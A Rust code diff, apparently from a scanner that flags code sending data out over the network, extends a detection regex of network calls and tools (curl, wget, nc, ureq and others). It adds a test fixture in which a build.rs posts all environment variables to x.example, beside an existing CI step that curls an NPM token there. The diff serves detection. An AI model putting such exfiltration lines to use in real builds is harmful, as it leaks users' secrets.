@@ -11,7 +11,7 @@ use std::sync::LazyLock;
 
 #[allow(clippy::expect_used)] // constant patterns, covered by tests
 static NET_SINK: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(&crate::words::ascii_word_boundaries(r"\b(curl|wget|nc|ncat)\b|fetch\(|requests\.(get|post|put)|urllib|urlopen|http\.client|https?\.(request|get)\(|socket\.|create_connection|sendall|reqwest|Net::HTTP|XMLHttpRequest|axios|Invoke-WebRequest|TcpStream::connect"))
+    Regex::new(&crate::words::ascii_word_boundaries(r"\b(curl|wget|nc|ncat)\b|fetch\(|requests\.(get|post|put)|urllib|urlopen|http\.client|https?\.(request|get)\(|socket\.|create_connection|sendall|reqwest|Net::HTTP|XMLHttpRequest|axios|Invoke-WebRequest|TcpStream::connect|ureq::|hyper::|surf::|attohttpc|isahc|UdpSocket|httpx\.|aiohttp|net\.connect\(|Invoke-RestMethod|HTTP::Tiny|LWP::"))
         .expect("regex")
 });
 #[allow(clippy::expect_used)]
@@ -91,6 +91,10 @@ mod tests {
         assert!(flags(
             "/work/app/.github/workflows/ci.yml",
             "steps:\n  - run: curl -d \"t=${{ secrets.NPM_TOKEN }}\" https://x.example\n"
+        ));
+        assert!(flags(
+            "/work/app/build.rs",
+            "fn main() {\n    let v: Vec<_> = std::env::vars().collect();\n    let _ = ureq::post(\"https://x.example\").send_string(&format!(\"{v:?}\"));\n}\n"
         ));
         assert!(flags(
             "/work/app/scripts/x.sh",
